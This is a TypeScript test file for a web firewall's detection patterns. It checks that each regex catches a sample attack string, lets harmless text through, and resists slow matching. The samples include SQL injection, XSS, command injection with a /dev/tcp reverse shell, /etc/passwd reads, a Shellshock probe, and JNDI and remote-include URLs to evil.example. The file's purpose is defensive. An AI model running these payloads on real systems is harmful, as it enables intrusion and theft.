import assert from 'node:assert/strict'
import { test } from 'node:test'
import { attackPatterns } from './attack-patterns.ts'
import type { FactoryPatterns } from './factory-patterns.ts'
import { identityPatterns } from './identity-patterns.ts'
import { inputPatterns } from './input-patterns.ts'
import { spamPatterns } from './spam-patterns.ts'
import { strictAttackPatterns } from './strict-attack-patterns.ts'

/** As shells and many template languages write what is to be replaced. */
const placeholder = (text: string) => `$\{${text}}`

/** A text that each pattern finds, by type and by name. */
const examples: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'SQL Injection': {
    'union-select': '1 UNION ALL SELECT password FROM users',
    'always-true-text': "x' or 'a'='a",
    'always-true-number': '7 or 1=1',
    'next-statement': '1; DROP TABLE users',
    'quote-and-comment': "admin'--",
    delay: '1 and sleep(5)',
    'schema-tables': 'select table_name from information_schema.tables',
    'server-files': "1 into outfile '/tmp/x'",
  },
  'Cross-Site Scripting': {
    'script-element': '<ScRiPt>alert(1)</script>',
    'event-handler': '<img src=x onerror=alert(1)>',
    'script-url': 'javascript:alert(1)',
    'html-in-url': 'data:text/html;base64,PHNjcmlwdD4=',
    'active-element': '<iframe src=//evil.example>',
    'script-in-style': 'width: expression(alert(1))',
    'page-access': 'fetch(document.cookie)',
  },
  'OS Command Injection': {
    'next-command': '192.0.2.1; cat /etc/passwd',
    substitution: 'x$(id)',
    'shell-path': 'x; /bin/sh',
    'windows-shell': '& cmd.exe /c dir',
    'network-device': 'bash -i >& /dev/tcp/192.0.2.1/4444',
    'function-in-environment': '() { :; }; echo vulnerable',
  },
  'LDAP Injection': {
    'closed-filter': 'x)(|(uid=admin',
    'any-value': '(objectClass=*',
    'wildcard-and-filter': '*)(uid=admin',
  },
  'Directory Traversal': {
    'parent-directory': '../../etc/hostname',
    'encoded-parent-directory': '%252e%252e%252fetc',
    'system-file': '/etc/passwd',
  },
  'HTTP Specific Injection': {
    'header-in-value': 'x\r\nSet-Cookie: a=b',
    'status-line-in-value': 'x\r\n\r\nHTTP/1.1 200 OK',
    'encoded-line-break': 'x%0d%0aa',
  },
  'Python-PHP attacks': {
    'php-tag': '<?php phpinfo();',
    'php-wrapper': 'php://filter/resource=index.php',
    'php-function': 'eval($x)',
    'php-variable': '$_GET[0]',
    'php-object': 'O:8:"stdClass":1:{}',
    'python-import': "__import__('os')",
    'python-call': "os.system('id')",
    'python-internals': "''.__class__.__mro__",
  },
  'Apache Struts attacks': {
    'ognl-expression': "%{(#a='b')}",
    'ognl-context': '#_memberAccess["allow"]',
    'java-class': '@java.lang.Runtime@getRuntime()',
    'class-loader': 'class.classLoader.resources',
    'redirect-prefix': `redirect:${placeholder('1+1')}`,
    lookup: placeholder('jndi:ldap://evil.example/a'),
  },
  'Remote File Inclusion': {
    'url-with-question-mark': 'http://evil.example/shell?',
    'url-of-address': 'http://192.0.2.1/shell',
    'url-of-script': 'https://evil.example/a/shell.txt?x=1',
    'included-url': "include('http://evil.example/')",
  },
  'SQL Injection strict': {
    'quote-and-keyword': "x' or",
    'select-from': 'select a from b',
    'change-of-data': 'insert into a',
    comment: 'a /* b',
    'hexadecimal-text': '0x61646d696e',
  },
  'Cross-Site Scripting strict': {
    'opening-tag': '<b>',
    'closing-tag': '</b>',
    'event-attribute': 'onclick = x',
    'joined-text': "'a' + 'b'",
    'numeric-reference': '&#x3c;',
  },
  'OS Command Injection strict': {
    'separator-and-word': '; touch',
    variable: placeholder('IFS'),
    redirection: 'a > /tmp/a',
  },
  'Directory Traversal strict': {
    'two-dots': 'a/..',
    'absolute-path': '/etc/motd',
    'null-byte': 'a.php%00.png',
  },
  'Apache struts attacks strict': { 'any-expression': placeholder('1'), 'static-method': '@a.b@c' },
  'Remote File Inclusion strict': { 'any-url': 'https://example.com', 'network-share': '\\\\host\\share' },
  'Credit Cards': {
    visa: 'card 4111 1111 1111 1111.',
    mastercard: '5555-5555-5555-4444',
    'american-express': '378282246310005',
    discover: '6011111111111117',
    'diners-club': '30569309025904',
    jcb: '3530111333300000',
  },
  'Social Security Numbers': { 'us-social-security-number': 'SSN: 078-05-1120' },
  'Directory Indexing': {
    'index-of': '<title>Index of /backup</title>',
    'directory-listing-for': '<h1>Directory listing for /</h1>',
    'to-parent-directory': '<A HREF="/">[To Parent Directory]</A>',
  },
  'Microsoft Errors': {
    'ole-db': "Microsoft OLE DB Provider for SQL Server error '80040e14'",
    odbc: '[Microsoft][ODBC SQL Server Driver][SQL Server]',
    'vb-script': 'Microsoft VBScript runtime error',
    'asp-net': "Server Error in '/shop' Application.",
    'sql-client': 'System.Data.SqlClient.SqlException',
    'unclosed-quotation-mark': 'Unclosed quotation mark after the character string',
  },
  'Oracle Errors': {
    'ora-number': 'ORA-00933: SQL command not properly ended',
    'pls-number': 'PLS-00103',
    'tns-number': 'TNS-12541: no listener',
    jdbc: 'at oracle.jdbc.driver.T4C',
  },
  'PHP Errors': {
    'html-message': '<b>Warning</b>:  Undefined variable',
    'text-message': 'PHP Fatal error:  Uncaught',
    'file-and-line': ' in <b>/var/www/index.php</b> on line <b>3</b>',
  },
  'PostgreS Errors': {
    'query-failed': 'PostgreSQL query failed',
    'php-function': 'pg_query(): Query failed',
    'syntax-error': 'ERROR:  syntax error at or near "a"',
    jdbc: 'org.postgresql.util.PSQLException',
  },
  'MySQL Errors': {
    'syntax-error': 'You have an error in your SQL syntax; check the manual that corresponds',
    'php-function': 'mysqli_query(): error',
    'connection-lost': 'MySQL server has gone away',
    jdbc: 'com.mysql.cj.jdbc.exceptions.CommunicationsException',
  },
  'AWS Meta Checks': {
    'access-key-id': '"AccessKeyId" : "ASIAIOSFODNN7EXAMPLE"',
    'secret-access-key': `"SecretAccessKey" : "${'Example/+='.repeat(4)}"`,
    'instance-identity': '"instanceId" : "i-1234567890abcdef0"',
    'instance-profile': '"InstanceProfileArn" : "arn:aws:iam::1:role"',
  },
  'Spam URL List': {
    gambling: 'http://best-casino.example/',
    pharmacy: 'http://cheap-pills.example/',
    loans: 'https://payday.example/',
    adult: 'http://escort.example/',
    'traffic-seller': 'http://free-traffic.example/',
    'link-markup': '[url=http://a.example]a[/url]',
  },
}

/** Texts of people and of programs that mean no harm. */
const harmless = [
  'Rock and roll; cats and dogs like fish',
  "The dogs' and cats like fish",
  'We bought a dog; cat; mouse and a house',
  'Please select a table from the union catalogue; update your profile',
  'JavaScript: The Good Parts',
  'Delivery times: 2 or 3 days, 5 > 3',
  "O'Brien & Sons -- since 1890",
  'Our operating system (Linux) needs an id; ls is a command',
  'Location: Berlin\nDate: tomorrow',
  'https://www.example.com/shop/shoes.html?size=42&colour=black',
  'mail@example.com',
  'C++ <3 and a <- b',
  '{"a":[1,2,3],"b":{"c":"d"}}',
  'Save 20% {today only}, $5 off',
]

const accepted: Readonly<Record<string, readonly string[]>> = {
  Alpha: ['abc'],
  Alphanumeric: ['abc123'],
  'Credit Cards': ['4111 1111 1111 1111', '378282246310005'],
  Date: ['2024-02-29', '29.2.2024', '2/29/2024'],
  Email: ['first.last+tag@mail.example.com'],
  'Hex Number': ['0xFF', 'deadbeef'],
  Name: ["Anne-Marie d'Été"],
  Numeric: ['-12.5', '7'],
  String: ['any text,\nwith a second line: ß 漢'],
}

const refused: Readonly<Record<string, readonly string[]>> = {
  Alpha: ['a1'],
  Alphanumeric: ['a b', 'a;b'],
  'Credit Cards': ['4111', 'x4111111111111111'],
  Date: ['2024-13-01', '32.1.2024', 'tomorrow'],
  Email: ['first.last', 'a@b', 'a b@example.com'],
  'Hex Number': ['0xGG', ''],
  Name: ['<b>', '1st'],
  Numeric: ['1e5', '1.', "1'"],
  String: ['a\0b', 'a\x1bb'],
}

const searched: FactoryPatterns = { ...attackPatterns, ...identityPatterns, ...spamPatterns }

/** As a pattern is applied whose case-sensitive is No. */
const compiled = (regex: RegExp) => new RegExp(regex.source, 'i')

test('every pattern finds what it is for', () => {
  let ran = 0
  for (const [type, patterns] of Object.entries(searched)) {
    assert.deepEqual(Object.keys(examples[type] ?? {}), Object.keys(patterns), type)
    for (const [name, { regex }] of Object.entries(patterns)) {
      assert.match(examples[type]?.[name] ?? '', compiled(regex), `${type}, ${name}`)
      ran++
    }
  }
  assert.ok(ran > 100)
})

test('harmless texts are taken for attacks by strict patterns alone', () => {
  let ran = 0
  for (const [type, patterns] of Object.entries(searched)) {
    if (type in strictAttackPatterns) continue
    for (const [name, { regex }] of Object.entries(patterns)) {
      for (const text of harmless) assert.doesNotMatch(text, compiled(regex), `${type}, ${name}`)
      ran++
    }
  }
  assert.ok(ran > 80)
})

test('each input type takes its values and no others', () => {
  for (const [type, patterns] of Object.entries(inputPatterns)) {
    const takes = (text: string) => Object.values(patterns).some(({ regex }) => compiled(regex).test(text))
    assert.ok(accepted[type] && refused[type], type)
    for (const text of accepted[type]) assert.ok(takes(text), `${type}: ${text}`)
    for (const text of refused[type]) assert.ok(!takes(text), `${type}: ${text}`)
  }
})

test('no text makes a pattern take long', () => {
  const size = 100_000
  const begins = ["'", '<a ', '; ', '(', '%', '${', 'a', ' ', '.', '/', '"', '0', '\n', 'http://', 'select ']
  for (const [type, patterns] of Object.entries({ ...searched, ...inputPatterns })) {
    for (const [name, { regex }] of Object.entries(patterns)) {
      const almost = (examples[type]?.[name] ?? accepted[type]?.[0] ?? '').slice(0, -1)
      for (const piece of [...begins, almost, almost.slice(0, -1), almost.slice(1)]) {
        if (piece === '') continue
        const text = piece.repeat(Math.ceil(size / piece.length))
        const start = performance.now()
        compiled(regex).test(text)
        const milliseconds = performance.now() - start
        assert.ok(milliseconds < 10_000, `${type}, ${name}: ${milliseconds} ms for ${JSON.stringify(piece)}`)
      }
    }
  }
})
